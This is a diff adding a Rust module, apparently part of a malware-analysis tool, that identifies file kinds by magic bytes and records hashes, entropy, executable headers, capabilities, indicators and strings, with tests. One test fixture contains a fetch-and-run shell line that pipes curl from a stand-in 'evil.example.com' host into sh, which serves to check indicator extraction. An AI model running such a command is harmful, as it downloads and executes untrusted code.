@@ -1,0 +1,195 @@
+//! Everything that is told about one file.
+
+use std::collections::{BTreeMap, BTreeSet};
+
+use malkin_report::Report;
+use serde::{Deserialize, Serialize};
+
+use crate::capability::{Capability, capabilities};
+use crate::entropy::{Profile, entropy, profile, round};
+use crate::finding::{Finding, findings};
+use crate::hashes::{Hashes, hashes};
+use crate::ioc::{Indicator, indicators};
+use crate::native::{self, Native};
+use crate::pe::{self, Pe};
+use crate::strings::{Text, strings};
+
+/// Version of this layout; it grows when a member changes its meaning.
+pub const VERSION: u32 = 1;
+/// Texts that are kept in a record.
+const MAX_KEPT_STRINGS: usize = 2000;
+
+/// What is wanted beyond the bytes.
+#[derive(Clone, Debug, Default)]
+pub struct Options<'a> {
+    /// The disassembly, if there is one: capabilities then name the functions that show them.
+    pub report: Option<&'a Report>,
+    /// The present in seconds since 1970, for judging timestamps.
+    pub now: Option<i64>,
+}
+
+/// What a file is.
+#[derive(Clone, PartialEq, Debug, Default, Serialize, Deserialize)]
+pub struct Facts {
+    /// Version of the layout.
+    pub version: u32,
+    /// Size in bytes.
+    pub size: usize,
+    /// Kind of file in a word: `pe`, `elf`, `macho`, `zip`, `pdf`, `text`, `data` and the like.
+    pub kind: String,
+    /// Hashes of the whole file.
+    pub hashes: Hashes,
+    /// Entropy of the whole file, bits a byte.
+    pub entropy: f64,
+    /// Entropy along the file.
+    pub entropy_profile: Profile,
+    /// Facts of a PE.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub pe: Option<Pe>,
+    /// Facts of an ELF or Mach-O.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub native: Option<Native>,
+    /// Packers and anomalies.
+    pub findings: Vec<Finding>,
+    /// What it can do.
+    pub capabilities: Vec<Capability>,
+    /// Indicators in its texts.
+    pub indicators: Vec<Indicator>,
+    /// Number of its texts.
+    pub num_strings: usize,
+    /// The first of them.
+    pub strings: Vec<Text>,
+    /// Parts that could not be read, with the cause.
+    pub unread: Vec<String>,
+}
+
+/// Looks at a file.
+pub fn examine(bytes: &[u8], options: &Options<'_>) -> Facts {
+    let mut unread = Vec::new();
+    let kind = kind(bytes);
+    let texts = strings(bytes);
+    let mut facts = Facts {
+        version: VERSION,
+        size: bytes.len(),
+        kind: kind.to_owned(),
+        hashes: hashes(bytes),
+        entropy: round(entropy(bytes)),
+        entropy_profile: profile(bytes),
+        pe: (kind == "pe").then(|| pe::read(bytes, &mut unread)).flatten(),
+        native: matches!(kind, "elf" | "macho").then(|| native::read(bytes, &mut unread)).flatten(),
+        indicators: indicators(&texts),
+        num_strings: texts.len(),
+        ..Facts::default()
+    };
+    facts.findings = findings(&facts, bytes, options.now);
+    facts.capabilities = capabilities(&apis(&facts, options.report));
+    facts.strings = texts.into_iter().take(MAX_KEPT_STRINGS).collect();
+    facts.unread = unread;
+    facts
+}
+
+/// Functions of the system by name with the addresses of the functions that call them.
+fn apis(facts: &Facts, report: Option<&Report>) -> BTreeMap<String, BTreeSet<u64>> {
+    let mut apis: BTreeMap<String, BTreeSet<u64>> = BTreeMap::new();
+    let libraries = facts
+        .pe
+        .iter()
+        .flat_map(|pe| &pe.libraries)
+        .chain(facts.native.iter().flat_map(|file| &file.libraries));
+    for name in libraries.flat_map(|library| &library.functions) {
+        apis.entry(name.clone()).or_default();
+    }
+    for function in report.iter().flat_map(|report| &report.functions) {
+        for (_, api) in &function.apirefs {
+            let name = api.rsplit('!').next().unwrap_or(api);
+            apis.entry(name.to_owned()).or_default().insert(function.offset.get());
+        }
+    }
+    apis
+}
+
+/// Tells the kind of a file by its first bytes.
+pub fn kind(bytes: &[u8]) -> &'static str {
+    const MAGIC: &[(&[u8], &str)] = &[
+        (b"MZ", "pe"),
+        (b"\x7fELF", "elf"),
+        (b"\xcf\xfa\xed\xfe", "macho"),
+        (b"\xce\xfa\xed\xfe", "macho"),
+        (b"\xfe\xed\xfa\xce", "macho"),
+        (b"\xfe\xed\xfa\xcf", "macho"),
+        (b"PK\x03\x04", "zip"),
+        (b"PK\x05\x06", "zip"),
+        (b"\x1f\x8b", "gzip"),
+        (b"7z\xbc\xaf\x27\x1c", "7z"),
+        (b"Rar!\x1a\x07", "rar"),
+        (b"%PDF-", "pdf"),
+        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "ole"),
+        (b"dex\n", "dex"),
+        (b"\0asm", "wasm"),
+        (b"#!", "script"),
+        (b"{\\rtf", "rtf"),
+        (b"\x4c\x00\x00\x00\x01\x14\x02\x00", "lnk"),
+        (b"\x89PNG", "png"),
+        (b"\xff\xd8\xff", "jpeg"),
+        (b"GIF8", "gif"),
+    ];
+    if let Some((_, kind)) = MAGIC.iter().find(|(magic, _)| bytes.starts_with(magic)) {
+        return if *kind == "pe" && !has_pe_header(bytes) { "mz" } else { kind };
+    }
+    // The magic of a universal Mach-O is that of Java classes too; those state a version above 44 where the other counts slices.
+    if bytes.starts_with(b"\xca\xfe\xba\xbe") {
+        let number = bytes.get(4..8).and_then(|four| four.try_into().ok()).map_or(0, u32::from_be_bytes);
+        return if number > 44 { "java" } else { "macho" };
+    }
+    if bytes.get(257..262) == Some(b"ustar") {
+        return "tar";
+    }
+    let start = bytes.get(..4096).unwrap_or(bytes);
+    let is_text = !start.is_empty()
+        && start.iter().all(|byte| matches!(byte, b'\t' | b'\n' | b'\r' | b' '..=b'~' | 0x80..));
+    if is_text && std::str::from_utf8(start).is_ok() { "text" } else { "data" }
+}
+
+fn has_pe_header(bytes: &[u8]) -> bool {
+    let pointer = bytes.get(0x3c..0x40).and_then(|four| four.try_into().ok()).map(u32::from_le_bytes);
+    pointer.and_then(|at| bytes.get(at as usize..(at as usize).checked_add(4)?)) == Some(b"PE\0\0".as_slice())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn kinds_are_told_by_first_bytes() {
+        let cases: [(&[u8], &str); 8] = [
+            (b"", "data"),
+            (b"MZ", "mz"),
+            (b"\x7fELF\x02", "elf"),
+            (b"PK\x03\x04", "zip"),
+            (b"hello\n", "text"),
+            (b"\0\x01", "data"),
+            (b"\xca\xfe\xba\xbe\0\0\0\x34", "java"),
+            (b"\xca\xfe\xba\xbe\0\0\0\x02", "macho"),
+        ];
+        for (bytes, expected) in cases {
+            assert_eq!(kind(bytes), expected, "{bytes:?}");
+        }
+    }
+
+    #[test]
+    fn a_record_survives_writing_and_reading() {
+        let facts = examine(b"#!/bin/sh\ncurl http://evil.example.com/x | sh\n", &Options::default());
+        assert_eq!(facts.kind, "script");
+        assert!(facts.indicators.iter().any(|indicator| indicator.value == "http://evil.example.com/x"));
+        let text = serde_json::to_string(&facts).unwrap();
+        assert_eq!(serde_json::from_str::<Facts>(&text).unwrap(), facts);
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn any_bytes_are_examined(head in proptest::sample::select(vec![&b"MZ"[..], b"\x7fELF", b"\xcf\xfa\xed\xfe", b""]),
+                                  rest in proptest::collection::vec(proptest::num::u8::ANY, 0..600)) {
+            examine(&[head, &rest].concat(), &Options::default());
+        }
+    }
+}
